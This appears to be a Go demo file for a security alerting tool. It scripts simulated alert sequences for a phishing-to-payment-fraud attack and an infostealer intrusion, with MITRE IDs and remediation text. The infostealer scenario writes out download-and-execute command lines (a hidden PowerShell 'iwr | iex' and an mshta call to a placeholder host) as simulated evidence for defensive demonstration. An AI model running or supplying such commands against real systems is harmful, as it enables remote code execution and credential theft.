package demo

import (
	"time"

	"github.com/clew-sec/clew/alert"
)

// This file holds the attacks that begin with a mail.

var (
	mailLookalike   = rule{office, medium, "InitialAccess", "T1566.002", "Mail with a look-alike sign-in page was delivered", "A message whose link leads to a copy of the company's sign-in page reached {user}. The page was found malicious only after delivery.", doMail}
	mailClick       = rule{office, high, "InitialAccess", "T1566.002 T1204.001", "Person opened a link that was later found malicious", "{user} opened a link from a mail. When the address was judged again, it led to a page that collects passwords.", doAccount}
	mailPurged      = rule{office, info, "InitialAccess", "T1566.002", "Delivered phishing mails were removed", "Messages of the same campaign were taken out of mailboxes after delivery. Mailboxes where a rule had moved the message were left alone.", "Check the mailboxes that were left alone."}
	signinHidden    = rule{entra, high, "InitialAccess", "T1090.003 T1078.004", "Sign-in from an anonymising address", "{user} signed in from {address}, an exit of an anonymising service that was not seen for this account before.", doAccount}
	signinOdd       = rule{entra, medium, "InitialAccess", "T1078.004", "Sign-in with unfamiliar properties", "{user} signed in with a browser, network and place that do not fit the account's past.", doAccount}
	signinAfterHook = rule{sentinel, high, "CredentialAccess", "T1557 T1078.004", "Sign-in succeeded minutes after a click on a phishing link", "The account {user} opened a phishing link and soon after signed in from {address}. The session was probably taken over by a page between the person and the service.", doAccount}
	methodAdded     = rule{entra, high, "Persistence", "T1098.005", "New sign-in method registered during a risky session", "During a session rated high risk a second telephone was registered for {user}.", "Remove the method, revoke all sessions and let the person register again in person."}
	mailRule        = rule{cloudApps, high, "DefenseEvasion", "T1564.008", "Inbox rule hides mails about payments", "A rule was made in the mailbox of {user} that moves messages with words such as invoice, payment and bank to a folder nobody reads.", "Delete the rule, then read what it has hidden."}
	mailForward     = rule{office, medium, "Collection", "T1114.003", "Mailbox forwards to an outside address", "Messages of {user} are now copied to an address outside the company.", "Remove the forwarding and list what was sent out since it was made."}
	mailRead        = rule{cloudApps, medium, "Collection", "T1114.002", "Unusual reading of old mail", "{user} opened several hundred old messages within minutes, nearly all about suppliers and payments.", doAccount}
	mailFraud       = rule{office, high, "Impact", "T1657", "Mail with changed bank details sent in a running conversation", "A message from {user} answers an invoice thread with new bank details. It was sent from {address}, not from the usual network.", "Call the partner at once by a known telephone number and have the payment stopped. Tell the bank."}
	mailFraudOut    = rule{office, medium, "LateralMovement", "T1534", "Account sends phishing mails inside the company", "{user} sent the same message with a look-alike link to many colleagues.", doMail}
)

// phishingFraud: mail with a link, session taken over, mailbox rule, payment
// fraud, and on to colleagues.
func phishingFraud(s *script) {
	victim := s.person("Finance")
	others := some(s.d, 5, s.byDepartment["Finance"])
	from := s.stranger()
	mail := message{
		subject: "Statement for your signature", sender: "billing@signwell-docs.test", senderName: "Signwell Documents",
		senderIP: from, urls: []string{"https://signwell-docs.test/view?doc=" + s.d.hex(8)}, received: s.at, outcome: "delivered", place: "inbox",
	}
	for _, u := range append(others, victim) {
		s.raise(mailLookalike, s.usr(u, attacked), mailboxEv(u, attacked), odd(mail.ev(u.Mailbox)), bad(urlEv(mail.urls[0])), ipEv(from, source))
		s.later(5*time.Second, 2*time.Minute)
	}
	s.later(20*time.Minute, 70*time.Minute)
	page := bad(urlEv(mail.urls[0], attacker))
	clicked := s.raise(mailClick, s.usr(victim, compromised), mailboxEv(victim, attacked), bad(mail.ev(victim.Mailbox)), page)
	s.raise(mailClick, s.usr(others[0], attacked), mailboxEv(others[0], attacked), bad(mail.ev(others[0].Mailbox)), bad(urlEv(mail.urls[0], attacker)))
	s.later(2*time.Minute, 6*time.Minute)
	exit := s.stranger()
	s.raise(signinHidden, s.usr(victim, compromised), odd(ipEv(exit, attacker, source)), appEv("Microsoft 365", contextual))
	s.raise(signinOdd, s.usr(victim, compromised), odd(ipEv(exit, source)))
	s.raise(signinAfterHook, s.usr(victim, compromised), odd(ipEv(exit, attacker)), bad(urlEv(mail.urls[0], attacker)))
	s.later(8*time.Minute, 20*time.Minute)
	s.raise(methodAdded, s.usr(victim, compromised), odd(ipEv(exit, attacker)))
	s.update(clicked, time.Hour, odd(ipEv(exit, attacker)))
	fraudInbox(s, victim, others, exit)
	s.later(20*time.Minute, time.Hour)
	s.raise(mailPurged, s.usr(others[0], attacked), mailboxEv(others[1], attacked), stopped(mail.ev(others[1].Mailbox), alert.RemediationStatusRemediated),
		as(&alert.MailClusterEvidence{ClusterBy: "Subject;P2SenderDomain", ClusterByValue: mail.subject + ";signwell-docs.test", EmailCount: 6}, contextual))
}

func fraudInbox(s *script, victim *User, others []*User, exit string) {
	s.later(10*time.Minute, 30*time.Minute)
	s.raise(mailRead, s.usr(victim, compromised), mailboxEv(victim, attacked), appEv("Exchange Online", contextual), odd(ipEv(exit, attacker)))
	s.later(5*time.Minute, 15*time.Minute)
	rule := &alert.MailboxConfigurationEvidence{
		ConfigurationType: alert.MailboxConfigurationTypeUserInboxRule, DisplayName: "..", MailboxPrimaryAddress: victim.Mailbox, UPN: victim.UPN, ConfigurationID: s.d.guid(),
	}
	s.raise(mailRule, s.usr(victim, compromised), mailboxEv(victim, attacked), odd(as(rule, created)), odd(ipEv(exit, attacker)))
	s.raise(mailForward, s.usr(victim, compromised), mailboxEv(victim, attacked), odd(ipEv(exit, attacker)))
	s.later(3*time.Hour, 20*time.Hour)
	out := message{subject: "RE: Invoice 40217, new bank details", sender: victim.Mailbox, senderName: victim.Name, senderIP: exit, received: s.at, outcome: "delivered", place: "external"}
	s.raise(mailFraud, s.usr(victim, compromised), mailboxEv(victim, attacked), odd(out.ev("accounts@northquay-metals.example")), odd(ipEv(exit, attacker, source)))
	s.later(10*time.Minute, 40*time.Minute)
	for _, u := range others[:3] {
		in := message{subject: "Shared with you: payment plan", sender: victim.Mailbox, senderName: victim.Name, senderIP: exit, urls: []string{"https://signwell-docs.test/share/" + s.d.hex(6)}, received: s.at, outcome: "delivered", place: "inbox"}
		s.raise(mailFraudOut, s.usr(victim, compromised), mailboxEv(u, attacked), odd(in.ev(u.Mailbox)), bad(urlEv(in.urls[0])), odd(ipEv(exit, source)))
		s.later(time.Minute, 4*time.Minute)
	}
}

var (
	stealerMail    = rule{office, low, "InitialAccess", "T1566.002", "Mail with a link to a rare site was delivered", "{user} received a mail whose link leads to a site registered a few days ago.", doMail}
	stealerClick   = rule{office, medium, "InitialAccess", "T1204.001", "Link to a rare site was opened", "{user} opened a link from a mail to a site that nobody else in the company has visited.", doAccount}
	stealerPage    = rule{network, medium, "InitialAccess", "T1189", "Fake verification page told visitor to paste a command", "A page loaded by {address} carries the text of a known trick that makes people run a command themselves.", doDevice}
	stealerRun     = rule{endpoint, medium, "Execution", "T1204.004 T1059.001", "Command pasted into the Run dialog started a hidden script", "On {device} explorer.exe started a hidden PowerShell that fetches a script from the internet.", doDevice}
	stealerLoad    = rule{endpoint, medium, "DefenseEvasion", "T1218.005", "System tool used to run a script from the internet", "mshta.exe on {device} ran code from an outside address. Attackers use it because it is signed and trusted.", doDevice}
	stealerStore   = rule{endpoint, high, "CredentialAccess", "T1555.003 T1539", "Stored passwords and cookies of browsers were read", "A program without a known publisher opened the password and cookie stores of two browsers on {device}.", "Change every password that was stored in the browsers and revoke all web sessions of the person."}
	stealerKnown   = rule{antivirus, high, "CredentialAccess", "T1555.003", "Information stealer 'Magpie' was found running", "The file was recognised as a member of the family Magpie after it had run for some minutes.", doDevice}
	stealerOut     = rule{network, high, "Exfiltration", "T1041 T1560", "Archive of browser data sent to a known collection server", "{address} sent a compressed archive to a server that collects stolen browser data.", doDevice}
	stealerReplay  = rule{entra, high, "CredentialAccess", "T1539 T1550.004", "Sign-in token used from another place", "A session of {user} continued from {address} while the person's device was still connected from the office.", doAccount}
	stealerTravel  = rule{cloudApps, medium, "InitialAccess", "T1078.004", "Activity from two distant places", "{user} was active from two places that nobody can travel between in the time.", doAccount}
	stealerFiles   = rule{cloudApps, medium, "Collection", "T1213.002", "Many files downloaded from a risky session", "{user} downloaded several hundred files in a session rated high risk.", doData}
	stealerCode    = rule{cloudApps, high, "Collection", "T1213.003", "All repositories copied with a web session", "In Codebarn the session of {user} cloned every repository the account may read.", "Revoke the session and its keys, and replace every secret that is kept in the repositories."}
	stealerKeyring = rule{sentinel, high, "CredentialAccess", "T1552.001", "Access token used from an address linked to a token theft", "A personal access token of {user} was used from {address}, where a stolen session was seen before.", doAccount}
)

// infostealer: link, fake verification page, stealer, token used elsewhere.
func infostealer(s *script) {
	u := s.windowsPerson("Engineering")
	site, drop, exit := "https://docs-verify-"+s.d.hex(4)+".test/captcha", s.stranger(), s.stranger()
	mail := message{subject: "Datasheet for the sensor board", sender: "info@partsfinder.test", senderName: "Parts Finder", senderIP: s.stranger(), urls: []string{site}, received: s.at, outcome: "delivered", place: "inbox"}
	s.raise(stealerMail, s.usr(u, attacked), mailboxEv(u, attacked), odd(mail.ev(u.Mailbox)), odd(urlEv(site)))
	s.later(30*time.Minute, 2*time.Hour)
	s.raise(stealerClick, s.usr(u, attacked), odd(mail.ev(u.Mailbox)), odd(urlEv(site)))
	s.raise(stealerPage, ipEv(u.Device.Address, attacked), odd(urlEv(site, attacker)), odd(ipEv(drop, attacker)), flow(u.Device.Address, drop, 443))
	s.later(time.Minute, 3*time.Minute)
	shell := s.spawn(nil, u.Device, u, `C:\Windows\explorer.exe`, "explorer.exe")
	ps := s.spawn(shell, u.Device, u, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -w hidden -c "iwr `+site+`/v.txt | iex"`)
	run := s.raise(stealerRun, s.dev(u.Device, attacked), s.usr(u, compromised), odd(s.ran(ps)), odd(urlEv(site+"/v.txt", attacker)))
	s.later(20*time.Second, 90*time.Second)
	hta := s.spawn(ps, u.Device, u, `C:\Windows\System32\mshta.exe`, `mshta https://cdn-verify.test/a.hta`)
	s.raise(stealerLoad, s.dev(u.Device, attacked), s.usr(u, compromised), odd(s.ran(hta)), odd(urlEv("https://cdn-verify.test/a.hta", attacker)))
	bin := newFile(s.d, `C:\Users\`+u.SAM+`\AppData\Local\Temp\mgp_`+s.d.hex(5)+`.exe`)
	mag := s.start(hta, u.Device, u, bin, bin.path+`\`+bin.name+` -q`)
	s.later(time.Minute, 3*time.Minute)
	s.raise(stealerStore, s.dev(u.Device, attacked), s.usr(u, compromised), bad(s.ran(mag)), bad(bin.ev(u.Device, created)))
	known := s.raise(stealerKnown, s.dev(u.Device, attacked), s.usr(u), bad(bin.ev(u.Device)),
		as(&alert.MalwareEvidence{Name: "Stealer:Win/Magpie.B", Category: "stealer"}))
	known.ThreatFamilyName, known.ThreatDisplayName = "Magpie", "Stealer:Win/Magpie.B"
	s.raise(stealerOut, ipEv(u.Device.Address, source), bad(ipEv(drop, c2, destination)), flow(u.Device.Address, drop, 8443), domainEv("collect-"+s.d.hex(4)+".test", c2))
	s.later(3*time.Hour, 9*time.Hour)
	s.raise(stealerReplay, s.usr(u, compromised), bad(ipEv(exit, attacker, source)), appEv("Microsoft 365", contextual))
	s.raise(stealerTravel, s.usr(u, compromised), odd(ipEv(exit, attacker)), ipEv(s.Egress[0], contextual))
	s.later(15*time.Minute, 40*time.Minute)
	s.raise(stealerFiles, s.usr(u, compromised), appEv("SharePoint Online", attacked), bad(ipEv(exit, attacker)))
	s.raise(stealerCode, s.usr(u, compromised), appEv("Codebarn", attacked), bad(ipEv(exit, attacker)))
	s.later(30*time.Minute, 2*time.Hour)
	s.raise(stealerKeyring, s.usr(u, compromised), bad(ipEv(exit, attacker)), appEv("Codebarn", contextual))
	s.update(run, 90*time.Minute, bad(bin.ev(u.Device)))
}
